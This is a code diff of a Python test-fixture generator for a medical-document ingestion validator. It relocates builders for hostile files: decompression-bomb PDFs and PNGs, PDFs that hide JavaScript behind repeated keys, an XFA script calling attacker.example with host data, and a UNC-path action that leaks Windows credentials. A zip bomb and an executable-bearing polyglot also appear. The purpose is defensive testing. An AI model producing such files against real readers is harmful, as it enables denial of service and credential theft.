@@ -17,20 +17,32 @@ import io
 import random
 import struct
 import zipfile
-import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
 from fpdf import FPDF
-from PIL import Image
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import ArrayObject, ByteStringObject, DictionaryObject, NameObject, TextStringObject
 
 from pipeline.core.identity import INS_OID_NIR, nir_key, with_key
 from pipeline.ingest.manifest import MANIFEST_COLUMNS
-
-MIB = 1024 * 1024
+from tests.hostile.images import HUGE_PNG_SIDE, jpeg_bytes, png_bytes, tiff_bytes, write_huge_png
+from tests.hostile.rawpdf import (
+    FLATE_BOMB_BYTES,
+    FLOOD_ARRAYS,
+    FLOOD_LENGTH,
+    HIDDEN_BOMB_BYTES,
+    MIB,
+    MISSING_OBJECTS,
+    missing_objects_pdf,
+    object_stream_flood_pdf,
+    remote_action_pdf,
+    repeated_open_action_pdf,
+    write_flate_bomb_pdf,
+    write_repeated_contents_bomb_pdf,
+    xfa_script_pdf,
+)
 
 EXPECTED_COLUMNS = ("file", "expected_state", "expected_reason")
 
@@ -57,7 +69,6 @@ FUTURE_DATE = "2099-01-01"
 
 MANY_PAGES = 1500  # pages in many_pages.pdf
 PAGE_LIMIT = 1000  # the page limit the validator tests are expected to configure
-FLATE_BOMB_BYTES = 400 * MIB  # inflated size of flate_bomb.pdf's content stream
 ZIP_BOMB_BYTES = 1024 * MIB  # inflated size of zip_bomb.zip's single member
 SEED = 20250117
 FIXED_DATE = dt.datetime(2025, 1, 17, 9, 30, tzinfo=dt.UTC)
@@ -120,61 +131,12 @@ def _with_open_action(action: dict[str, str]) -> bytes:
     return _pdf_writer_bytes(writer)
 
 
-def png_bytes(width: int = 16, height: int = 16) -> bytes:
-    """A small RGB PNG assembled by hand (signature, IHDR, IDAT, IEND)."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
-    rows = b"".join(b"\x00" + _png_row(width, y) for y in range(height))  # filter 0 on every row
-    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
 
 
-def _png_row(width: int, y: int) -> bytes:
-    return b"".join(bytes((x * 16 % 256, y * 16 % 256, 128)) for x in range(width))
 
 
-def jpeg_bytes() -> bytes:
-    """A small baseline JFIF JPEG (Pillow, which fpdf2 depends on)."""
-    image = Image.new("RGB", (16, 16))
-    image.putdata([(x * 16, y * 16, 128) for y in range(16) for x in range(16)])
-    buffer = io.BytesIO()
-    image.save(buffer, format="JPEG", quality=85)
-    return buffer.getvalue()
 
 
-def tiff_bytes(width: int = 8, height: int = 8) -> bytes:
-    """A minimal baseline TIFF assembled by hand: little-endian, 8-bit grey, one uncompressed strip."""
-    short, long_, rational = 3, 4, 5
-    n_tags = 12
-    ifd_offset = 8
-    after_ifd = ifd_offset + 2 + 12 * n_tags + 4
-    x_res, y_res, data_offset = after_ifd, after_ifd + 8, after_ifd + 16
-    tags = [
-        (256, short, 1, width),  # ImageWidth
-        (257, short, 1, height),  # ImageLength
-        (258, short, 1, 8),  # BitsPerSample
-        (259, short, 1, 1),  # Compression: none
-        (262, short, 1, 1),  # PhotometricInterpretation: BlackIsZero
-        (273, long_, 1, data_offset),  # StripOffsets
-        (277, short, 1, 1),  # SamplesPerPixel
-        (278, short, 1, height),  # RowsPerStrip
-        (279, long_, 1, width * height),  # StripByteCounts
-        (282, rational, 1, x_res),  # XResolution
-        (283, rational, 1, y_res),  # YResolution
-        (296, short, 1, 2),  # ResolutionUnit: inch
-    ]
-    assert len(tags) == n_tags
-    out = bytearray(b"II*\x00" + struct.pack("<I", ifd_offset))
-    out += struct.pack("<H", n_tags)
-    for tag, kind, count, value in tags:
-        packed = struct.pack("<HH", value, 0) if kind == short else struct.pack("<I", value)
-        out += struct.pack("<HHI", tag, kind, count) + packed
-    out += struct.pack("<I", 0)  # no next IFD
-    out += struct.pack("<II", 72, 1) * 2
-    out += bytes((x * 32 + y) % 256 for y in range(height) for x in range(width))
-    return bytes(out)
 
 
 def small_zip_bytes() -> bytes:
@@ -264,38 +226,9 @@ NOT_CDA_XML = b'<?xml version="1.0" encoding="UTF-8"?>\n<note><to>x</to></note>\
 HTML_PAGE = b"<!DOCTYPE html><html><body><h1>Compte rendu de biologie</h1><p>Bilan normal.</p><script>alert(1)</script></body></html>\n"
 
 # ---------------------------------------------------------------------------------------------
-# Writers for the big or hand-assembled files (streamed)
+# Writers for the big files (streamed)
 
 
-def write_flate_bomb_pdf(path: Path, inflated: int = FLATE_BOMB_BYTES) -> None:
-    """A one-page PDF whose content stream is FlateDecode of `inflated` zero bytes (~1000:1).
-
-    Assembled by hand with a correct /Length and xref; the zeros are fed 1 MiB at a time, so only
-    the compressed stream (~400 KB for 400 MiB) is ever held.
-    """
-    compressor = zlib.compressobj(9)
-    zeros = bytes(MIB)
-    parts = [compressor.compress(zeros) for _ in range(inflated // MIB)]
-    parts.append(compressor.compress(bytes(inflated % MIB)))
-    parts.append(compressor.flush())
-    stream = b"".join(parts)
-
-    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
-    offsets: list[int] = []
-
-    def obj(number: int, body: bytes) -> None:
-        offsets.append(len(out))
-        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")
-
-    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
-    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
-    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R >>")
-    obj(4, b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream")
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
-    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
-    path.write_bytes(bytes(out))
 
 
 def write_zip_bomb(path: Path, inflated: int = ZIP_BOMB_BYTES) -> None:
@@ -371,106 +304,7 @@ def _embedded_exe_pdf() -> bytes:
 
 
 # ---------------------------------------------------------------------------------------------
-# Hand-assembled PDFs: what pypdf's writer refuses to write (repeated keys, actions to shares...)
-
-HIDDEN_BOMB_BYTES = 300 * MIB  # inflated size of the second /Contents of repeated_contents_bomb.pdf
-MISSING_OBJECTS = 40_000  # references to undefined objects in missing_objects.pdf
-FLOOD_ARRAYS, FLOOD_LENGTH = 5, 90_000  # object_stream_flood.pdf: arrays of zeros in one object stream
-HUGE_PNG_SIDE = 20_000
-PAGE_TEXT = b"BT /F1 12 Tf 72 770 Td (Compte rendu de biologie) Tj ET"
-
-
-def assemble_pdf(objects: list[bytes], trailer: bytes = b"", tail: bytes = b"") -> bytes:
-    """A PDF whose object n is `objects[n - 1]` (1: the catalog), with a correct cross-reference table.
-
-    `tail` goes after the objects, before the table (padding, comments).
-    """
-    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-    offsets = []
-    for number, body in enumerate(objects, start=1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
-    out += tail
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
-    return bytes(out)
-
-
-def stream(data: bytes, entries: bytes = b"") -> bytes:
-    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"
-
-
-def page_pdf(
-    catalog: bytes = b"",
-    page: bytes = b"",
-    more: list[bytes] | None = None,
-    tail: bytes = b"",
-    resources: bytes = b"",
-    contents: bytes = PAGE_TEXT,
-    content_entries: bytes = b"",
-) -> bytes:
-    """A one-page PDF with a line of text: catalog 1, pages 2, page 3, font 4, contents 5, then `more` from 6.
-
-    `catalog`, `page` and `resources` are added to those dictionaries; `contents` (with `content_entries`) is
-    the page's content stream.
-    """
-    return assemble_pdf(
-        [
-            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
-            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> "
-            + resources
-            + b" >> /Contents 5 0 R "
-            + page
-            + b" >>",
-            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-            stream(contents, content_entries),
-            *(more or []),
-        ],
-        tail=tail,
-    )
-
-
-def deflated_zeros(size: int) -> bytes:
-    """zlib of `size` zero bytes, compressed 1 MiB at a time."""
-    compressor = zlib.compressobj(9)
-    zeros = bytes(MIB)
-    parts = [compressor.compress(zeros) for _ in range(size // MIB)]
-    parts.append(compressor.compress(bytes(size % MIB)))
-    parts.append(compressor.flush())
-    return b"".join(parts)
-
-
-def repeated_open_action_pdf() -> bytes:
-    """/OpenAction twice: pypdf keeps the first (a harmless view), viewers the last (JavaScript)."""
-    return page_pdf(
-        catalog=b"/OpenAction [3 0 R /Fit] /OpenAction 6 0 R",
-        more=[b"<< /S /JavaScript /JS (app.alert\\('hidden behind a repeated key'\\);) >>"],
-    )
-
-
-def write_repeated_contents_bomb_pdf(path: Path) -> None:
-    """/Contents twice: pypdf reads the small page, viewers inflate the second, HIDDEN_BOMB_BYTES of zeros."""
-    bomb = stream(deflated_zeros(HIDDEN_BOMB_BYTES), b"/Filter /FlateDecode ")
-    path.write_bytes(page_pdf(page=b"/Contents 6 0 R", more=[bomb]))
-
-
-def xfa_script_pdf() -> bytes:
-    """An XFA form whose template runs JavaScript on opening."""
-    template = (
-        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
-        b'<event activity="initialize"><script contentType="application/x-javascript">'
-        b"app.launchURL('http://attacker.example/?' + xfa.host.name);</script></event></subform></template>"
-    )
-    return page_pdf(catalog=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", more=[stream(template)])
-
-
-def remote_action_pdf(kind: bytes = b"/GoToR", target: bytes = b"(\\\\\\\\attacker.example\\\\share\\\\cr.pdf)") -> bytes:
-    """An /OpenAction opening a file on a UNC path (\\\\attacker.example\\share\\cr.pdf): Windows sends the reader's credentials."""
-    key = b"/URI" if kind == b"/URI" else b"/F"
-    return page_pdf(catalog=b"/OpenAction << /S " + kind + b" " + key + b" " + target + b" /D [0 /Fit] >>")
+# A PDF with a zip after it (hand-assembled PDFs: rawpdf.py; images: images.py)
 
 
 def polyglot_pdf(member: str = "setup.exe", data: bytes = b"MZ\x90\x00" + bytes(1020)) -> bytes:
@@ -480,63 +314,6 @@ def polyglot_pdf(member: str = "setup.exe", data: bytes = b"MZ\x90\x00" + bytes(
         archive.writestr(zipfile.ZipInfo(member, ZIP_DATE), data)
     return good_pdf_bytes() + buffer.getvalue()
 
-
-def write_huge_png(path: Path, side: int = HUGE_PNG_SIDE) -> None:
-    """A side x side 1-bit grey PNG of zeros: ~50 KB on disk, 400 million pixels once decoded."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
-    compressor = zlib.compressobj(9)
-    row = bytes(1 + (side + 7) // 8)  # filter byte 0, then the packed bits
-    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
-    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
-    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
-
-
-def missing_objects_pdf(count: int = MISSING_OBJECTS) -> bytes:
-    """A page citing `count` objects no table lists, after a megabyte of comment: a search of the file per reference."""
-    references = b" ".join(b"%d 0 R" % (1000 + n) for n in range(count))
-    return page_pdf(catalog=b"/Extra 6 0 R", more=[b"[" + references + b"]"], tail=b"%" + b"x" * MIB + b"\n")
-
-
-def object_stream_flood_pdf(arrays: int = FLOOD_ARRAYS, length: int = FLOOD_LENGTH) -> bytes:
-    """A few kilobytes whose object stream inflates into `arrays` arrays of `length` zeros, all reachable."""
-    first = 6
-    bodies = [b"[" + b"0 " * length + b"]" for _ in range(arrays)]
-    header, offset = b"", 0
-    for n, body in enumerate(bodies):
-        header += b"%d %d " % (first + n, offset)
-        offset += len(body) + 1
-    payload = header + b"".join(body + b" " for body in bodies)
-    catalog = b"/Extra [" + b" ".join(b"%d 0 R" % (first + n) for n in range(arrays)) + b"]"
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
-        b"null",
-        b"null",
-    ]
-    out = bytearray(b"%PDF-1.7\n")
-    offsets = []
-    for number, body in enumerate(objects, start=1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
-    objstm = first + arrays
-    offsets.append(len(out))
-    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (arrays, len(header))
-    out += b"%d 0 obj\n" % objstm + stream(zlib.compress(payload, 9), entries) + b"\nendobj\n"
-    xref_number = objstm + 1
-    xref_offset = len(out)
-    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
-    rows += [b"\x01" + struct.pack(">IH", offset, 0) for offset in offsets[:5]]
-    rows += [b"\x02" + struct.pack(">IH", objstm, n) for n in range(arrays)]
-    rows += [b"\x01" + struct.pack(">IH", offsets[5], 0), b"\x01" + struct.pack(">IH", xref_offset, 0)]
-    table = zlib.compress(b"".join(rows))
-    xref_entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode " % (xref_number + 1)
-    out += b"%d 0 obj\n" % xref_number + stream(table, xref_entries) + b"\nendobj\n"
-    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
-    return bytes(out)
 
 
 def build_hostile_batch(out: Path, max_file_bytes: int = 4 * MIB) -> list[HostileCase]:
